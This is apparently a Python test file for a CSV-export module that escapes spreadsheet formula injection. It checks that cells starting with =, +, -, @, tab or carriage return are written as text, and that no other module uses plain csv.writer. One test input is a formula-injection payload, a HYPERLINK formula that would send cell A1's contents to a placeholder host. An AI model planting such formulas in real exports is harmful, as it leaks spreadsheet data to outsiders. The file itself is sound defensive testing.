"""CSV meant for spreadsheets never carries a cell a spreadsheet program would run as a formula
(OWASP "CSV injection"); every CSV the product writes goes through corridor.core.csvsafe."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from corridor.core import csvsafe

SOURCE = Path(csvsafe.__file__).resolve().parents[1]


def written(rows) -> list[list[str]]:
    buffer = io.StringIO()
    csvsafe.spreadsheet_writer(buffer).writerows(rows)
    return list(csv.reader(io.StringIO(buffer.getvalue())))


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
        "+7 999 123-45-67",
        "-1",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(cell):
    assert written([[cell]]) == [["'" + cell]]


def test_other_cells_are_written_as_they_are():
    rows = [["Абдуллаев", "Шахзод", "UZ-2026-000123", "a=b", " =1", "", "'quoted", "-", "+"]]

    assert written(rows) == rows


def test_numbers_stay_numbers():
    assert written([[-5, Decimal("-2.5"), 3.0, None]]) == [["-5", "-2.5", "3.0", ""]]


def test_writerow_escapes_too():
    buffer = io.StringIO()
    csvsafe.spreadsheet_writer(buffer, lineterminator="\n").writerow(["=1+1", "ok"])

    assert buffer.getvalue() == "'=1+1,ok\n"


def test_an_interchange_file_keeps_every_cell_as_it_is():
    buffer = io.StringIO()
    csvsafe.interchange_writer(buffer, lineterminator="\n").writerows([["-1", "=x"]])

    assert buffer.getvalue() == "-1,=x\n"


def test_no_module_writes_csv_without_choosing_how():
    """A new CSV output must say whether people open it in a spreadsheet (escaped) or a
    program reads it (as it is): plain csv.writer is allowed only inside csvsafe."""
    plain = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(SOURCE))
        for path in sorted(SOURCE.rglob("*.py"))
        if "tests" not in path.parts
        and path.resolve() != Path(csvsafe.__file__).resolve()
        and plain.search(path.read_text(encoding="utf-8"))
    ]

    assert offenders == []


def test_a_spreadsheet_file_is_utf8_with_a_byte_order_mark_and_escaped_cells():
    content = csvsafe.spreadsheet_file([["Фамилия", "Сумма"], ["=HYPERLINK(1)", -5]])

    assert content == "\ufeffФамилия,Сумма\r\n'=HYPERLINK(1),-5\r\n".encode()
